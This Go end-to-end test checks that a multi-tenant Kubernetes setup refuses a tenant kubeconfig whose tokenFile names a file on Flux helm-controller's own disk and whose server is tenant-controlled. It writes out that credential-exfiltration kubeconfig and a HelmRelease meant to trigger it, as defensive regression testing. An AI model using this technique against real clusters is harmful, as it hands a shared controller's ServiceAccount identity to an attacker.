package e2e

import (
	"context"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	helmv2 "github.com/fluxcd/helm-controller/api/v2"
	"github.com/fluxcd/pkg/apis/meta"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/rand"
)

// TestAttackKubeconfigReadsTheControllersFiles: Flux's helm-controller loads a
// HelmRelease's kubeconfig with client-go's clientcmd, which reads a user's tokenFile
// from the controller's own disk into the bearer token, and Flux keeps that token
// (fluxcd/pkg/runtime/client.KubeConfig copies BearerToken). A tenant's Secret naming
// the path of the controller's ServiceAccount token, with a server of the tenant's,
// hands the shared helm-controller's identity to the tenant, from a HelmRelease that is
// no placement release at all. Such a kubeconfig is refused at admission; the test's
// server never sees the file's content.
func TestAttackKubeconfigReadsTheControllersFiles(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	// What stands for the controller's mounted ServiceAccount token: a file on the
	// helm-controller's disk the tenant knows the path of.
	secretFile := filepath.Join(t.TempDir(), "token")
	const marker = "the-controllers-own-token"
	if err := os.WriteFile(secretFile, []byte(marker), 0o600); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		http.Error(w, "nothing here", http.StatusNotFound)
	}))
	defer srv.Close()
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})

	ns := "tenant-" + rand.String(6)
	if err := k8s.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}); err != nil {
		t.Fatal(err)
	}
	kubeconfig := fmt.Sprintf(`apiVersion: v1
kind: Config
clusters:
- name: mine
  cluster:
    server: %s
    certificate-authority-data: %s
users:
- name: me
  user:
    tokenFile: %s
contexts:
- name: c
  context: {cluster: mine, user: me}
current-context: c
`, srv.URL, base64.StdEncoding.EncodeToString(ca), secretFile)
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "elsewhere"}, Data: map[string][]byte{"value": []byte(kubeconfig)}}
	err := k8s.Create(ctx, secret)
	if err == nil {
		hr := &helmv2.HelmRelease{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "exfiltrate"},
			Spec: helmv2.HelmReleaseSpec{
				Interval:   metav1.Duration{Duration: time.Minute},
				ChartRef:   &helmv2.CrossNamespaceSourceReference{Kind: "ExternalArtifact", Name: "app", Namespace: chartsNamespace},
				KubeConfig: &meta.KubeConfigReference{SecretRef: &meta.SecretKeyReference{Name: "elsewhere", Key: "value"}},
				Install:    &helmv2.Install{DisableWait: true},
			}}
		if err := k8s.Create(ctx, hr); err != nil {
			t.Fatal(err)
		}
		deadline := time.Now().Add(30 * time.Second)
		for time.Now().Before(deadline) {
			mu.Lock()
			got := strings.Join(seen, " ")
			mu.Unlock()
			if strings.Contains(got, marker) {
				t.Fatalf("helm-controller sent the content of a file on its own disk to the tenant's server: %q", got)
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Fatalf("a kubeconfig naming a file of the controller that reads it was admitted (the server saw %q)", seen)
	}
	if !strings.Contains(err.Error(), "users[me].tokenFile") || !strings.Contains(err.Error(), "on the disk of the controller that reads it") {
		t.Errorf("the kubeconfig was refused, but not for naming the controller's file: %v", err)
	}
}
